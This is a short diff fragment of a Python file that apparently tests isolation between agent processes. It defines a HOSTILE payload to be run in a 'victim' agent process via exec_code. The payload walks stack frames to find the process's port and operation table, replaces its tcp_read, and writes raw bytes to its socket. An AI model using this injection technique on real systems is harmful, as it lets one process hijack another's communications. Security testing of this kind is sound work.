@@ -45,7 +45,7 @@ for port in (8000, 8001, 8002, 8003):
         except OSError:
             time.sleep(0.2)
 """
-# run in the victim's agent process (eval runs there): replace its tcp_read op by `hostile`
+# run in the victim's agent process (exec_code runs there): find its port and op table, to replace its tcp_read
 HOSTILE = '''
 import os, struct, sys
 _f = sys._getframe()
@@ -53,6 +53,8 @@ while "port" not in _f.f_locals:
     _f = _f.f_back
 _port, _ops = _f.f_locals["port"], _f.f_globals["OPS"]
 def _raw(b):
+    if not hasattr(_port, "fd"):  # the fake driver's guest: its port is a unix socket connection
+        return _port.conn.sendall(b)
     v = memoryview(b)
     while v:
         v = v[os.write(_port.fd, v):]
